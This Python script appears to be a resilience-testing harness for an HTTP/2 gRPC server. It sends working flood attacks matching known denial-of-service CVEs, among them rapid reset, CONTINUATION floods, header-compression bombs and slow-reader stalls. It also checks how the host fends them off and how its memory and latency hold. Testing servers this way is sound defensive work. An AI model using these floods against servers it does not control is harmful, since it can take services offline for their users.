#!/usr/bin/python3
"""Floods a host with what costs a client little and a server much, and tells how it held.

ADDRESS is what the host prints: unix:PATH or HOST:PORT, without TLS. A connection that the host
ends is followed by another until the time is over. Meanwhile an honest caller, a process of its
own, calls /rpc.Profile/Name again and again. For a host on TCP, --pid tells whose memory to look
at."""

import argparse
import collections
import dataclasses
import itertools
import multiprocessing
import pathlib
import socket
import struct
import time
from typing import Callable

import raw_peer
from raw_peer import (
    DEFAULT_WINDOW, END_HEADERS, END_STREAM, EVENTS, MAX_WINDOW, REQUEST_BLOCK, Error, Peer,
    Setting, continuation, data, frame, headers, open_call, ping, priority, rst_stream, settings,
    whole_call, window_update,
)

# What is sent at a time, about.
BATCH = 100


@dataclasses.dataclass
class Flood:
    """`batches` gives lists of frames for a peer, without end. `ends` are the ways in which a host
    may end the connection, as `how_it_ended` says them; one that has nothing to say against it
    leaves it open."""

    cve: str
    what: str
    batches: Callable
    ends: tuple
    reads: bool = True  # What the host answers.


def stream_ids():
    return itertools.count(1, 2)


def repeated(*frames):
    """The same frames, again and again."""
    batch = list(frames) * (BATCH // len(frames))
    return lambda peer: itertools.repeat(batch)


def on_new_streams(make_frames):
    """A few frames on each of ever more streams."""
    def batches(_):
        ids = stream_ids()
        while True:
            yield [part for stream_id in itertools.islice(ids, BATCH)
                   for part in make_frames(stream_id)]

    return batches


def on_one_stream(first, *frames):
    """A stream is opened, and then the same frames come again and again."""
    def batches(peer):
        peer.acknowledges_settings = False  # A header block must not be interrupted.
        yield [first]
        yield from repeated(*frames)(peer)

    return batches


# By turns, since there is more than one way to make a server reset a stream.
FAULTS = (
    lambda stream_id: window_update(stream_id, MAX_WINDOW),  # Too large a window.
    lambda stream_id: headers(stream_id, REQUEST_BLOCK),  # Trailers that end nothing.
)


def make_the_server_reset(stream_id):
    return open_call(stream_id), FAULTS[stream_id // 2 % len(FAULTS)](stream_id)


def malformed(stream_id):
    """A request with a name in upper case."""
    return [headers(stream_id, b"\x00\x01X\x01x" + REQUEST_BLOCK, END_HEADERS | END_STREAM)]


def nameless(stream_id):
    """Fields whose names and values have no bytes, and cost a server more than that."""
    return [headers(stream_id, b"\x40\x00\x00" * 200 + REQUEST_BLOCK, END_HEADERS | END_STREAM)]


def bomb(stream_id):
    """A block that is a thousand times as large as on the wire."""
    kept = b"\x40\x01x\x7f\x81\x1e" + b"y" * 3968  # 127 + 1 + 30 * 128.
    return [headers(stream_id, REQUEST_BLOCK + kept + b"\xbe" * 3000, END_HEADERS | END_STREAM)]


def churned_priorities(_):
    """A tree of streams that turns upside down again and again."""
    ids = list(range(1, 2 * BATCH, 2))
    while True:
        yield [priority(stream_id, depends_on=stream_id - 2 if stream_id > 1 else 0)
               for stream_id in ids]
        yield [priority(stream_id, depends_on=stream_id + 2) for stream_id in reversed(ids)]


def dribbled_windows(peer):
    """Answers that may go a byte at a time, at least the first few."""
    yield [settings((Setting.INITIAL_WINDOW_SIZE, 0)),
           window_update(0, MAX_WINDOW - DEFAULT_WINDOW)]
    ids = stream_ids()
    while True:
        some = list(itertools.islice(ids, BATCH))
        yield [whole_call(stream_id) for stream_id in some]
        for _ in range(8):
            yield [window_update(stream_id, 1) for stream_id in some]
        yield [window_update(stream_id, 1000) for stream_id in some]
        for stream_id in some:
            peer.finish(stream_id)
        peer.forget()


def unread_answers(_):
    """Windows are open, and nothing is read from the socket."""
    yield [settings((Setting.INITIAL_WINDOW_SIZE, MAX_WINDOW)),
           window_update(0, MAX_WINDOW - DEFAULT_WINDOW)]
    yield from on_new_streams(lambda stream_id: [whole_call(stream_id)])(None)


def read_slowly(_):
    """Nearly as many answers as there may be at a time, and a byte of window now and then."""
    yield [settings((Setting.INITIAL_WINDOW_SIZE, 0))]
    ids = list(itertools.islice(stream_ids(), 9 * BATCH))
    yield [whole_call(stream_id) for stream_id in ids]
    for stream_id in itertools.cycle(ids):
        time.sleep(0.1)
        yield [window_update(stream_id, 1)]


RESETS = "GOAWAY ENHANCE_YOUR_CALM too_many_resets"
CONTROL = "GOAWAY ENHANCE_YOUR_CALM too_many_control_frames"
EMPTY = "GOAWAY ENHANCE_YOUR_CALM too_many_empty_frames"
CONTINUATIONS = "GOAWAY ENHANCE_YOUR_CALM too_many_continuations"
UNREAD = "GOAWAY ENHANCE_YOUR_CALM answers_left_unread"
STALLED = "GOAWAY ENHANCE_YOUR_CALM peer_reads_nothing"
NO_GOAWAY = "closed without a GOAWAY"
STILL_OPEN = "still open"

FLOODS = {
    "rapid-reset": Flood(
        "CVE-2023-44487", "calls that are taken back at once",
        on_new_streams(lambda stream_id: (open_call(stream_id), rst_stream(stream_id))), (RESETS,)),
    "made-you-reset": Flood(
        "CVE-2025-8671", "calls that the server has to reset, for faults behind their HEADERS",
        on_new_streams(make_the_server_reset), (RESETS,)),
    "reset": Flood(
        "CVE-2019-9514", "malformed requests, whose resets are not read",
        on_new_streams(malformed), (RESETS,), reads=False),
    "continuation": Flood(
        "CVE-2024-27316", "a header block that never ends",
        on_one_stream(headers(1, REQUEST_BLOCK, 0), continuation(1, b"\x00\x01x\x01x")),
        (CONTINUATIONS,)),
    "data-dribble": Flood(
        "CVE-2019-9511", "answers that are taken byte by byte", dribbled_windows, (STILL_OPEN,)),
    "ping": Flood(
        "CVE-2019-9512", "pings, whose answers are not read", repeated(ping()),
        (CONTROL, "GOAWAY ENHANCE_YOUR_CALM too_many_pings"), reads=False),
    "resource-loop": Flood(
        "CVE-2019-9513", "priorities that change all the time", churned_priorities, (CONTROL,)),
    "settings": Flood(
        "CVE-2019-9515", "settings, whose acknowledgements are not read", repeated(settings()),
        (CONTROL,), reads=False),
    "zero-length-headers": Flood(
        "CVE-2019-9516", "fields without names and values", on_new_streams(nameless), (RESETS,)),
    "internal-data-buffering": Flood(
        "CVE-2019-9517", "calls, whose answers are not read though all windows are open",
        unread_answers, (RESETS, UNREAD, STALLED, NO_GOAWAY), reads=False),
    "empty-frames": Flood(
        "CVE-2019-9518", "DATA without content",
        on_one_stream(open_call(1, EVENTS), data(1)), (EMPTY,)),
    "slow-reader": Flood(
        "CVE-2016-1546", "900 answers, ten bytes of which are taken a second", read_slowly,
        (STALLED, STILL_OPEN)),
    "header-list": Flood(
        "CVE-2016-6581", "header blocks that are a thousand times larger than on the wire",
        on_new_streams(bomb), (RESETS,)),
    "window-updates": Flood(
        "-", "windows that grow byte by byte, with nothing to send",
        repeated(window_update(0, 1)), (CONTROL,)),
    "unknown-frames": Flood(
        "-", "frames of a type that nobody knows", repeated(frame(0xEE, 0, b"what?")), (CONTROL,)),
    "empty-continuations": Flood(
        "CVE-2024-27316", "a header block in pieces without content",
        on_one_stream(headers(1, REQUEST_BLOCK, 0), continuation(1)), (CONTINUATIONS, EMPTY)),
}


def how_it_ended(peer):
    if peer.goaway is not None:
        text = peer.goaway.additional_data.decode(errors="replace")
        return f"GOAWAY {Error(peer.goaway.error_code).name} {text}".rstrip()
    return NO_GOAWAY if peer.closed else STILL_OPEN


def flood_once(flood, address, until):
    """One connection, until the host ends it or the time is over. Returns how many frames were
    sent, and how it ended."""
    sent = 0
    with Peer(address) as peer:
        try:
            for batch in flood.batches(peer):
                peer.socket.settimeout(max(until - time.monotonic(), 0.001))
                taken = peer.send(b"".join(batch))
                sent += len(batch)
                if flood.reads:
                    peer.read_what_is_there()
                if peer.closed or not taken or time.monotonic() >= until:
                    break
            peer.socket.settimeout(1)
            if flood.reads or not taken:
                peer.read_to_the_end()
        except (TimeoutError, AssertionError):
            pass  # The host neither reads nor ends it, or has nothing more to say.
        return sent, how_it_ended(peer)


def call_honestly(address, results, start, stop):
    """Sends the time that each call took, in milliseconds, and how many had no answer."""
    times, failures = [], 0
    with Peer(address) as peer:
        peer.send(window_update(0, MAX_WINDOW - DEFAULT_WINDOW))  # For all answers.
        for stream_id in stream_ids():
            is_last = stop.is_set()
            began = time.monotonic()
            try:
                failures += peer.call(stream_id).grpc_status is None
            except AssertionError:  # The host has ended the connection, or is silent.
                failures += 1
                is_last = True
            times.append((time.monotonic() - began) * 1000)
            peer.forget()
            start.set()
            if is_last:
                break
            stop.wait(0.002)
    results.send((times, failures))


class HonestCaller:
    """A client in a process of its own; use it as a context manager. Makes a call before it is
    entered, and one when it is left."""

    def __init__(self, address):
        self._start = multiprocessing.Event()
        self._stop = multiprocessing.Event()
        self._results, results = multiprocessing.Pipe(duplex=False)
        self._process = multiprocessing.Process(
            target=call_honestly, args=(address, results, self._start, self._stop))

    def __enter__(self):
        self._process.start()
        self._start.wait(raw_peer.PATIENCE_SECONDS)
        return self

    def __exit__(self, *_):
        self._stop.set()
        self.milliseconds, self.failures = (
            self._results.recv() if self._results.poll(raw_peer.PATIENCE_SECONDS) else ([], 1))
        self._process.join()

    def percentile(self, percent):
        ordered = sorted(self.milliseconds) or [float("nan")]
        return ordered[min(len(ordered) * percent // 100, len(ordered) - 1)]


def host_pid(address):
    """Of the process that listens on a Unix-domain socket."""
    if not address.startswith("unix:"):
        return None
    with raw_peer.connect(address) as sock:
        credentials = sock.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12)
    return struct.unpack("3i", credentials)[0]


def memory_mb(pid):
    """The memory of a process that is not on disk."""
    for line in pathlib.Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    raise RuntimeError(f"process {pid} has ended")


@dataclasses.dataclass
class Report:
    frames: int
    seconds: float
    ends: collections.Counter
    memory_before: float
    memory_after: float
    honest: HonestCaller

    def __str__(self):
        ends = "\n".join(f"  {count:6} x {end}" for end, count in self.ends.most_common())
        honest = self.honest
        return (
            f"{self.frames} frames in {self.seconds:.1f} s on {sum(self.ends.values())} "
            f"connections, which ended so:\n{ends}\n"
            f"memory of the host: {self.memory_before:.1f} MB before, {self.memory_after:.1f} MB"
            " after\n"
            f"an honest caller: {len(honest.milliseconds)} calls, {honest.failures} without an"
            f" answer, p50 {honest.percentile(50):.2f} ms, p99 {honest.percentile(99):.2f} ms,"
            f" slowest {honest.percentile(100):.2f} ms")


def run(flood, address, seconds, connections=None, pid=None):
    """Floods the host for so long, or on so many connections."""
    pid = pid or host_pid(address)
    before = memory_mb(pid) if pid else float("nan")
    ends, frames = collections.Counter(), 0
    with HonestCaller(address) as honest:
        start = time.monotonic()
        while time.monotonic() - start < seconds and connections != sum(ends.values()):
            sent, end = flood_once(flood, address, start + seconds)
            frames += sent
            ends[end] += 1
        took = time.monotonic() - start
    after = memory_mb(pid) if pid else float("nan")
    return Report(frames, took, ends, before, after, honest)


def main():
    parser = argparse.ArgumentParser(
        usage="%(prog)s NAME [--seconds N] [--pid PID] ADDRESS",
        description=__doc__.partition("\n\n")[2],
        epilog="\n".join(f"{name:24} {flood.cve:15} {flood.what}"
                         for name, flood in FLOODS.items()),
        formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("name", choices=FLOODS, metavar="NAME")
    parser.add_argument("address", metavar="ADDRESS")
    parser.add_argument("--seconds", type=float, default=30)
    parser.add_argument("--pid", type=int)
    arguments = parser.parse_intermixed_args()
    print(run(FLOODS[arguments.name], arguments.address, arguments.seconds, pid=arguments.pid))


if __name__ == "__main__":
    main()
